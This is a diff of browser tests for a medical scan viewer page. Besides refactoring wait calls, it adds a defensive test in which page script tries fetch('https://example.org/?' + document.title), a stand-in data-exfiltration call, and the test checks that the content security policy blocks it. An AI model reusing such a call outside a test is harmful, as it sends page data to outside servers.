@@ -89,7 +89,9 @@ def test_a_click_on_a_lesion_opens_the_viewer_at_it(made, opened):
 def test_the_viewer_shows_the_scan_with_the_lesion_under_the_crosshair(made, opened):
     page = opened(made.layout.subject_page(PERSON)).page
     page.locator("button.show").first.click()
-    page.wait_for_function("document.querySelector('.viewer output').value !== ''", timeout=60_000)
+    page.wait_for_function(
+        "() => document.querySelector('.viewer output').value !== ''", timeout=60_000
+    )
     page.wait_for_timeout(500)
     picture = page.locator(".viewer canvas").first.screenshot()
     grey = np.asarray(Image.open(io.BytesIO(picture)).convert("RGB"), float)
@@ -104,7 +106,9 @@ def test_axe_finds_no_serious_fault(made, opened, axe, scheme):
     page = opened(made.layout.subject_page(PERSON), scheme=scheme).page
     assert axe(page) == []
     page.locator("button.show").first.click()
-    page.wait_for_function("document.querySelector('.viewer output').value !== ''", timeout=60_000)
+    page.wait_for_function(
+        "() => document.querySelector('.viewer output').value !== ''", timeout=60_000
+    )
     assert axe(page) == []
 
 
@@ -115,5 +119,18 @@ def test_every_lesion_stands_in_three_planes_and_a_projection(made, opened):
     assert page.locator("li.lesion").count() == len(own)
     assert page.locator("li.lesion .tile img").count() == 4 * len(own)
     page.evaluate("document.querySelectorAll('img').forEach(i => i.loading = 'eager')")
-    page.wait_for_function("[...document.images].every(i => i.complete)")
+    page.wait_for_function("() => [...document.images].every(i => i.complete)")
     assert page.evaluate("[...document.images].every(i => i.naturalWidth > 0)")
+
+
+def test_no_page_can_send_anything(made, opened):
+    """Were a name in a table ever to become a script, it could reach no server."""
+    watched = opened(made.layout.subject_page(PERSON))
+    refused = watched.page.evaluate(
+        """() => new Promise((done) => {
+          addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
+          fetch("https://example.org/?" + document.title).catch(() => null);
+        })"""
+    )
+    assert refused == "connect-src"
+    assert watched.from_network == []
